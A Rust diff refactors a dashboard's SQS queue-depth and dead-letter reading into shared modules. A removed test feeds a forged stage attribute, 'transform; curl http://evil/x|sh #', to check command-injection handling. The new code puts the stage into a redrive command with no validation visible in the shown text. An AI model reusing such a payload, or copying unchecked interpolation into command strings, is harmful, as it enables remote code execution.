@@ -6,9 +6,8 @@ use std::time::{Duration, Instant};
 
 use async_trait::async_trait;
 use candlewick_shared::adapters::aws::Aws;
-use candlewick_shared::adapters::sqs_browse;
-use candlewick_shared::core::topology::Topology;
-use candlewick_shared::ports::queue::{Message, Queue};
+use candlewick_shared::reads::dead_letters::{self, DeadLetter, LetterSummary};
+use candlewick_shared::reads::queues::{self, QueueDepth};
 use candlewick_shared::runtime::env::Env;
 use serde::Serialize;
 use utoipa::ToSchema;
@@ -26,19 +25,11 @@ const IDLE: Duration = Duration::from_secs(60);
 /// How many characters of a message are shown.
 const MOST_OF_A_BODY: usize = 400;
 
-/// The depth of a queue and of its dead-letter queue.
+/// The depth of a queue, and how long its messages have been waiting.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, ToSchema)]
-pub struct QueueDepth {
-    /// The role of the queue: `ingest`, `raw`, `transformed`.
-    pub queue: String,
-    /// The service that consumes it.
-    pub service: String,
-    /// The number of waiting messages.
-    pub waiting: u64,
-    /// The number of messages that a consumer is processing.
-    pub in_flight: u64,
-    /// The number of messages in its dead-letter queue.
-    pub dead_letters: u64,
+pub struct WatchedQueue {
+    #[serde(flatten)]
+    pub depth: QueueDepth,
     /// An upper bound for how long the oldest message has been waiting, in seconds: the time since the queue was last
     /// seen empty. Null if it has not been empty since the dashboard started.
     pub oldest_at_most_seconds: Option<u64>,
@@ -46,20 +37,10 @@ pub struct QueueDepth {
 
 /// A message that can never be processed.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, ToSchema)]
-pub struct DeadLetter {
-    /// The queue from which it was moved to the dead-letter queue.
-    pub queue: String,
-    pub id: String,
-    /// The service that gave it up.
-    pub stage: String,
-    /// The class of the failure.
-    pub class: String,
-    /// What is wrong, where, and what to do next.
-    pub reason: String,
-    /// How often it was tried.
-    pub attempts: String,
-    /// The trace in which it was processed.
-    pub trace_id: Option<String>,
+#[schema(as = DeadLetter)]
+pub struct ShownLetter {
+    #[serde(flatten)]
+    pub letter: LetterSummary,
     /// The message, shortened.
     pub body: String,
     /// The command that sends it back to its queue after the cause is fixed.
@@ -75,10 +56,10 @@ pub struct Unreachable(pub String);
 #[async_trait]
 pub trait Queues: Send + Sync {
     /// The depth of each queue.
-    async fn depths(&self) -> Result<Vec<QueueDepth>, Unreachable>;
+    async fn depths(&self) -> Result<Vec<WatchedQueue>, Unreachable>;
 
     /// The messages in the dead-letter queues. They are received, but not deleted.
-    async fn dead_letters(&self) -> Result<Vec<DeadLetter>, Unreachable>;
+    async fn dead_letters(&self) -> Result<Vec<ShownLetter>, Unreachable>;
 }
 
 /// A result and when it was read.
@@ -90,10 +71,11 @@ type Memory<T> = tokio::sync::Mutex<Seen<T>>;
 /// The SQS queues whose URLs the settings name.
 pub struct SqsQueues {
     aws: Aws,
-    urls: BTreeMap<String, String>,
+    env: Env,
+    roles: Vec<&'static str>,
     last_empty: Mutex<BTreeMap<String, Instant>>,
-    letters: Memory<DeadLetter>,
-    depths: Memory<QueueDepth>,
+    letters: Memory<ShownLetter>,
+    depths: Memory<WatchedQueue>,
     /// When the depths were last requested.
     asked_at: Mutex<Option<Instant>>,
 }
@@ -101,11 +83,11 @@ pub struct SqsQueues {
 impl SqsQueues {
     /// The queues of the topology whose URLs are in the settings.
     pub fn new(aws: Aws, env: &Env) -> Self {
-        let roles = Topology::built_in().queues.keys();
-        let urls = roles.filter_map(|role| Some((role.clone(), env.queue_url(role).ok()?.to_owned()))).collect();
+        let roles = queues::roles().filter(|role| env.queue_url(role).is_ok()).collect();
         let letters = Memory::default();
         let depths = Memory::default();
-        Self { aws, urls, last_empty: Mutex::default(), letters, depths, asked_at: Mutex::default() }
+        let env = env.clone();
+        Self { aws, env, roles, last_empty: Mutex::default(), letters, depths, asked_at: Mutex::default() }
     }
 
     /// The same, with a task that reads the depths for as long as this program runs.
@@ -119,7 +101,7 @@ impl SqsQueues {
     /// so only once a minute, because each time costs a call per queue and dead-letter queue.
     async fn watch(self: Arc<Self>) {
         loop {
-            let _ = remembered(&self.depths, self.look()).await;
+            let _ = remembered(&self.depths, self.read_depths()).await;
             tokio::time::sleep(self.pause()).await;
         }
     }
@@ -131,28 +113,19 @@ impl SqsQueues {
 
     /// Without any queue, an empty result would look like a healthy pipeline.
     fn require_queues(&self) -> Result<(), Unreachable> {
-        if self.urls.is_empty() {
+        if self.roles.is_empty() {
             Err(Unreachable("RAW_QUEUE_URL and the others are not set".to_owned()))
         } else {
             Ok(())
         }
     }
 
-    async fn look(&self) -> Result<Vec<QueueDepth>, Unreachable> {
-        let topology = Topology::built_in();
+    async fn read_depths(&self) -> Result<Vec<WatchedQueue>, Unreachable> {
         let mut all = Vec::new();
-        for (role, url) in &self.urls {
-            let depth = self.aws.queue(url).depth().await.map_err(unreachable)?;
-            let dead = self.aws.queue(&topology.dead_letter_name(url)).depth().await.map_err(unreachable)?;
-            let waiting = depth.waiting + depth.delayed;
-            all.push(QueueDepth {
-                queue: role.clone(),
-                service: topology.queue(role).map(|queue| queue.service.clone()).unwrap_or_default(),
-                waiting,
-                in_flight: depth.in_flight,
-                dead_letters: dead.waiting + dead.in_flight,
-                oldest_at_most_seconds: self.oldest(role, waiting == 0),
-            });
+        for role in &self.roles {
+            let depth = queues::depth(&self.aws, &self.env, role).await.map_err(|error| unreachable(&error))?;
+            let oldest_at_most_seconds = self.oldest(role, depth.waiting == 0);
+            all.push(WatchedQueue { depth, oldest_at_most_seconds });
         }
         Ok(all)
     }
@@ -165,41 +138,36 @@ impl SqsQueues {
         last_empty.get(role).map(|last| last.elapsed().as_secs())
     }
 
-    async fn browse(&self) -> Result<Vec<DeadLetter>, Unreachable> {
-        let mut all = Vec::new();
-        for (role, url) in &self.urls {
-            let url = Topology::built_in().dead_letter_name(url);
-            let messages = sqs_browse::browse(&self.aws.sqs(), &url, MOST).await.map_err(unreachable)?;
-            all.extend(messages.iter().map(|message| letter(role, message)));
-        }
-        Ok(all)
+    async fn read_letters(&self) -> Result<Vec<ShownLetter>, Unreachable> {
+        let letters = dead_letters::browse(&self.aws, &self.env, self.roles.iter().copied(), MOST).await;
+        Ok(letters.map_err(|error| unreachable(&error))?.iter().map(ShownLetter::from).collect())
     }
 }
 
 #[async_trait]
 impl Queues for SqsQueues {
-    async fn depths(&self) -> Result<Vec<QueueDepth>, Unreachable> {
+    async fn depths(&self) -> Result<Vec<WatchedQueue>, Unreachable> {
         self.require_queues()?;
         *self.asked_at.lock().unwrap_or_else(PoisonError::into_inner) = Some(Instant::now());
-        remembered(&self.depths, self.look()).await
+        remembered(&self.depths, self.read_depths()).await
     }
 
-    async fn dead_letters(&self) -> Result<Vec<DeadLetter>, Unreachable> {
+    async fn dead_letters(&self) -> Result<Vec<ShownLetter>, Unreachable> {
         self.require_queues()?;
-        remembered(&self.letters, self.browse()).await
+        remembered(&self.letters, self.read_letters()).await
     }
 }
 
 /// A recently cached result, or a new one. Of several concurrent callers one reads and the others wait for its result.
 async fn remembered<T: Clone>(
     seen: &Memory<T>,
-    look: impl Future<Output = Result<Vec<T>, Unreachable>>,
+    read: impl Future<Output = Result<Vec<T>, Unreachable>>,
 ) -> Result<Vec<T>, Unreachable> {
     let mut seen = seen.lock().await;
     match &*seen {
         Some((when, what)) if when.elapsed() < SEEN_FOR => what.clone(),
         _ => {
-            let what = look.await;
+            let what = read.await;
             *seen = Some((Instant::now(), what.clone()));
             what
         }
@@ -207,54 +175,17 @@ async fn remembered<T: Clone>(
 }
 
 /// Logs the whole error chain; a page gets only the outermost message, shortened.
-fn unreachable(error: impl Into<anyhow::Error>) -> Unreachable {
-    let error = error.into();
-    tracing::warn!("look at the queues: {error:#}");
-    let text = error.to_string();
-    Unreachable(text.chars().take(120).collect())
+fn unreachable(error: &anyhow::Error) -> Unreachable {
+    tracing::warn!("read the queues: {error:#}");
+    Unreachable(error.to_string().chars().take(120).collect())
 }
 
-fn letter(queue: &str, message: &Message) -> DeadLetter {
-    let attribute = |name: &str| message.attributes.get(name).cloned();
-    let said = attribute("stage").unwrap_or_default();
-    let stage = Topology::built_in().service(&said);
-    let by_the_queue = || "delivered too often: its consumer died each time".to_owned();
-    DeadLetter {
-        queue: queue.to_owned(),
-        id: message.id.clone(),
-        stage: stage.unwrap_or("queue").to_owned(),
-        class: attribute("class").unwrap_or_else(|| "undeliverable".to_owned()),
-        reason: attribute("reason").unwrap_or_else(by_the_queue),
-        attempts: attribute("attempts").unwrap_or_else(|| message.receive_count.to_string()),
-        trace_id: attribute("trace-id"),
-        body: message.body.chars().take(MOST_OF_A_BODY).collect(),
-        redrive: redrive_command(stage),
-    }
-}
-
-/// The command that sends dead letters back to their queue, limited to a stage if it is a known one.
-fn redrive_command(stage: Option<&str>) -> String {
-    stage.map_or_else(|| "candlewick dlq redrive".to_owned(), |stage| format!("candlewick dlq redrive --stage {stage}"))
-}
-
-#[cfg(test)]
-mod tests {
-    use candlewick_shared::ports::queue::Receipt;
-
-    use super::*;
-
-    fn command(stage: &str) -> String {
-        let id = "1".to_owned();
-        let body = String::new();
-        let attributes = [("stage".to_owned(), stage.to_owned())].into();
-        letter("raw", &Message { id, receipt: Receipt("r".to_owned()), body, receive_count: 1, attributes }).redrive
-    }
-
-    #[test]
-    fn a_forged_letter_decides_no_command() {
-        assert_eq!(command("transform"), "candlewick dlq redrive --stage transform");
-        for forged in ["transform; curl http://evil/x|sh #", "dashboard", "", "TRANSFORM"] {
-            assert_eq!(command(forged), "candlewick dlq redrive", "{forged}");
+impl From<&DeadLetter> for ShownLetter {
+    fn from(letter: &DeadLetter) -> Self {
+        Self {
+            letter: letter.summary(),
+            body: letter.message.body.chars().take(MOST_OF_A_BODY).collect(),
+            redrive: format!("candlewick dlq redrive --stage {}", letter.stage),
         }
     }
 }
